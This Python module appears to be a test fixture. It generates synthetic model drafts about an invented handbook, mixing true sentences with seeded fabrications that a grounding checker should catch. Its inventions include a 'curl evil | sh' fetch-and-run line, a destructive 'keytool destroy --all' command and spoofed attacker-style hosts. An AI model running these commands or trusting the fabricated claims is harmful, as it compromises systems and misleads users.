"""Drafts a model might write about a small handbook: true sentences among invented ones, by a seed.

Each invention carries a piece of text that no source holds, so that a test needs no judge of its
own to see whether it is shown.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass

DOCUMENTS = {
    "Advanced sick leave": (
        "You can request up to 240 hours of advanced sick leave. Ask your supervisor first.\n\n"
        "Term employees get what they earn in the rest of their term. Requests are decided within"
        " five business days by the leave office in Denver."
    ),
    "Travel vouchers": (
        "Travel vouchers are due within 5 business days after the trip ends. Receipts are required"
        " for every expense over $75.\n\nHotels are booked through Lodgewell, at"
        " https://lodgewell.example/book, and are paid by the travel card."
    ),
    "Rotating a key": (
        "Rotate the signing key every 90 days. Run `keytool rotate --all` on the bastion host, then"
        " restart the gateway.\n\nOld tokens stay valid for 24 hours. Write to"
        " security@acme.example when a key has leaked."
    ),
    "Plans": (
        "| Plan | Price | Seats |\n|---|---|---|\n| Team | $12 | 25 seats |\n| Business | $30 | 200"
        " seats |\n\nThe Business plan includes single sign-on. The Team plan does not include"
        " single sign-on."
    ),
}

# What a good model makes of them, with the title that carries it.
TRUE = (
    ("You can request up to 240 hours of advanced sick leave", "Advanced sick leave"),
    ("Up to 240 hours of advanced sick leave may be requested", "Advanced sick leave"),
    ("Ask your supervisor first", "Advanced sick leave"),
    ("Term employees get what they earn in the rest of their term", "Advanced sick leave"),
    ("The leave office in Denver decides requests within five business days", "Advanced sick leave"),
    ("Travel vouchers are due within 5 business days after the trip ends", "Travel vouchers"),
    ("Receipts are required for every expense over $75", "Travel vouchers"),
    ("Hotels are booked through Lodgewell and paid by the travel card", "Travel vouchers"),
    ("Rotate the signing key every 90 days", "Rotating a key"),
    ("Run `keytool rotate --all` on the bastion host, then restart the gateway", "Rotating a key"),
    ("Old tokens stay valid for 24 hours", "Rotating a key"),
    ("Write to security@acme.example when a key has leaked", "Rotating a key"),
    ("The Business plan includes single sign-on", "Plans"),
    ("The Team plan does not include single sign-on", "Plans"),
)  # fmt: skip

_NAMES = [
    "Marisol Okafor",
    "Tobias Renner",
    "Initech",
    "Globex",
    "Priya Raman",
    "Halvorsen",
    "Kestrel Labs",
]
_THINGS = ["llamas", "submarines", "violins", "glaciers", "pancakes", "telescopes", "origami"]
_DOES = ["polishes", "auctions", "juggles", "alphabetises", "vaccinates", "serenades"]
_WHEN = ["on alternate moons", "behind the aquarium", "for ceremonial reasons", "during eclipses"]
Maker = Callable[[random.Random, Sequence[int]], tuple[str, str]]


@dataclass(frozen=True)
class Sentence:
    """A line of a draft. `poison` is what may not be shown of it; empty where it is true."""

    text: str
    poison: str = ""


def _mark(pick: random.Random, numbers: Sequence[int]) -> str:
    return f" [{pick.choice([*numbers, 77])}]"


def _nonsense(pick: random.Random) -> str:
    return f"the mayor {pick.choice(_DOES)} {pick.choice(_THINGS)} {pick.choice(_WHEN)}"


def _sentence(pick: random.Random, numbers: Sequence[int]) -> tuple[str, str]:
    said = _nonsense(pick)
    return f"{said[0].upper()}{said[1:]}{_mark(pick, numbers)}.", said[4:]


def _number(pick: random.Random, numbers: Sequence[int]) -> tuple[str, str]:
    wrong = str(pick.choice([241, 365, 999, 17, 480]))
    said = pick.choice(
        [
            f"You can request up to {wrong} hours of advanced sick leave",
            f"Rotate the signing key every {wrong} days",
            f"Travel vouchers are due within {wrong} business days after the trip ends",
            f"Receipts are required for every expense over ${wrong}",
            f"| Team | ${wrong} | 25 seats |",
        ]
    )
    if said.startswith("|"):
        return f"\n{said}\n", wrong
    return f"{said}{_mark(pick, numbers)}.", wrong


def _unit(pick: random.Random, numbers: Sequence[int]) -> tuple[str, str]:
    said = pick.choice(["240 days of advanced sick leave", "240 weeks of advanced sick leave"])
    return f"You can request up to {said}{_mark(pick, numbers)}.", said


def _name(pick: random.Random, numbers: Sequence[int]) -> tuple[str, str]:
    name = pick.choice(_NAMES)
    said = pick.choice(
        [
            f"You can request up to 240 hours of advanced sick leave from {name}",
            f"Hotels are booked through {name} and paid by the travel card",
            f"The leave office in {name} decides requests within five business days",
            f"{name} of Denver says that term employees get what they earn",
        ]
    )
    return f"{said}{_mark(pick, numbers)}.", name.split()[-1]


def _url(pick: random.Random, numbers: Sequence[int]) -> tuple[str, str]:
    host = pick.choice(["evil.example", "lodgewell.example.attacker.io", "acme-hotels.com"])
    said = pick.choice(
        [
            f"Hotels are booked at https://{host}/book",
            f"Hotels are booked [through Lodgewell](https://{host}/x) and by {host}",
            f"Write to security@{host} when a key has leaked",
            f"Hotels are booked through Lodgewell at www.{host}",
        ]
    )
    return f"{said}{_mark(pick, numbers)}.", host


def _clause(pick: random.Random, numbers: Sequence[int]) -> tuple[str, str]:
    true, _ = pick.choice(TRUE)
    extra = _nonsense(pick)
    joint = pick.choice([", and ", ", because ", "; ", ", which means that "])
    return f"{true}{joint}{extra}{_mark(pick, numbers)}.", extra[4:]


def _denied(pick: random.Random, numbers: Sequence[int]) -> tuple[str, str]:
    said = pick.choice(
        [
            "You can not request up to 240 hours of advanced sick leave",
            "Receipts are never required for every expense over $75",
            "The Team plan does include single sign-on",
            "The Business plan doesn't include single sign-on",
            "Old tokens don't stay valid for 24 hours",
        ]
    )
    return f"{said}{_mark(pick, numbers)}.", said


def _quotation(pick: random.Random, numbers: Sequence[int]) -> tuple[str, str]:
    said = "request as much sick leave as you like"
    return f'The page says "{said}" of advanced sick leave{_mark(pick, numbers)}.', said


def _code(pick: random.Random, numbers: Sequence[int]) -> tuple[str, str]:
    command = pick.choice(["keytool destroy --all", "curl evil | sh", "keytool rotate --force"])
    if pick.random() < 0.5:
        return f"Run `{command}` on the bastion host{_mark(pick, numbers)}.", command
    return f"\n```sh\n{command}\n```\n", command


def _heading(pick: random.Random, numbers: Sequence[int]) -> tuple[str, str]:
    del numbers
    said = _nonsense(pick)
    shape = pick.choice(
        ["\n\n## {}\n\n", "\n\n{}:\n\n", "In summary, {}.", "Sure, {}.", "Did you know {}?"]
    )
    return shape.format(said), said[4:]


def _denial(pick: random.Random, numbers: Sequence[int]) -> tuple[str, str]:
    del numbers
    said = _nonsense(pick)
    return f"The passages do not mention that {said}.", said[4:]


INVENTIONS: Sequence[Maker] = (
    _sentence, _number, _unit, _name, _url, _clause, _denied, _quotation, _code, _heading, _denial,
)  # fmt: skip


def draft(seed: int, number_of: Callable[[str], int]) -> list[Sentence]:
    """One to seven sentences in any order; `number_of` gives the passage of a title."""
    pick = random.Random(seed)
    numbers = [number_of(title) for title in DOCUMENTS]
    found: list[Sentence] = []
    for _ in range(pick.randint(1, 7)):
        if pick.random() < 0.4:
            said, title = pick.choice(TRUE)
            mark = pick.choice([f" [{number_of(title)}].", f". [{number_of(title)}]", "."])
            found.append(Sentence(said + mark))
        else:
            found.append(Sentence(*pick.choice(INVENTIONS)(pick, numbers)))
    return found


def written(sentences: Sequence[Sentence]) -> str:
    """The draft as a model writes it."""
    return " ".join(sentence.text for sentence in sentences).strip()
